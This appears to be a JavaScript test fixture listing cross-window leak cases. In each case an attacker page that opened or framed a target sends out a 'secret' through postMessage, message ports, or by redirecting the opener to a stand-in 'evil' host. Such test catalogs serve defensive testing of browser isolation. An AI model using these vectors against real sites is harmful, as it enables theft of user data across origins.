// Who opened the page, or has it in a frame: `by` is a page of the attacker's that did, and sends on whatever it is told.
const opened = (source) => ({ source, by: "open" });
const framed = (source) => ({ source, by: "frame" });

export default {
  "the opener is told": opened(`() => opener.postMessage("secret", "*")`),
  "the opener is told, later": opened(`async ({ sleep }) => { await sleep(200); opener.postMessage("secret", "*"); }`),
  "the opener is sent elsewhere": opened("({ evil }) => void (opener.location = `${evil}/secret`)"),
  "the opener is sent elsewhere, by replace": opened("({ evil }) => opener.location.replace(`${evil}/secret`)"),
  "the opener of a frame's parent": opened(
    `({ add }) => add("iframe").contentWindow.parent.opener.postMessage("secret", "*")`,
  ),
  "the opener by top": opened(`() => top.opener.postMessage("secret", "*")`),
  "the opener by the document's window": opened(`() => document.defaultView.opener.postMessage("secret", "*")`),
  "the opener's port": opened(`({ sleep }) => new Promise((resolve) => {
    onmessage = ({ ports }) => resolve(ports[0]?.postMessage("secret"));
    opener.postMessage("port", "*");
  })`),
  "a port that the opener sends": opened(`({ sleep }) => new Promise((resolve) => {
    onmessage = ({ ports }) => resolve(ports[0]?.postMessage("secret"));
    setTimeout(resolve, 1500);
  })`),
  "the source of what the opener sends": opened(`({ sleep }) => new Promise((resolve) => {
    addEventListener("message", ({ source }) => resolve(source.postMessage("secret", "*")), true);
    setTimeout(resolve, 1500);
  })`),
  "a port in what the opener sends": opened(`({ sleep }) => new Promise((resolve) => {
    document.defaultView.addEventListener("message", ({ data }) => resolve(data.port?.postMessage("secret")));
    setTimeout(resolve, 1500);
  })`),
  "the parent is told": framed(`() => parent.postMessage("secret", "*")`),
  "the top is told": framed(`() => top.postMessage("secret", "*")`),
  "the source of what the parent sends": framed(`() => new Promise((resolve) => {
    addEventListener("message", ({ source }) => resolve(source.postMessage("secret", "*")));
    setTimeout(resolve, 1500);
  })`),
  "a port that the parent sends": framed(`() => new Promise((resolve) => {
    addEventListener("message", ({ ports }) => resolve(ports[0]?.postMessage("secret")));
    setTimeout(resolve, 1500);
  })`),
  "the parent is told by a frame": framed(
    `({ add, script }) => void add("iframe", { srcdoc: script("top.postMessage('secret', '*')") })`,
  ),
};
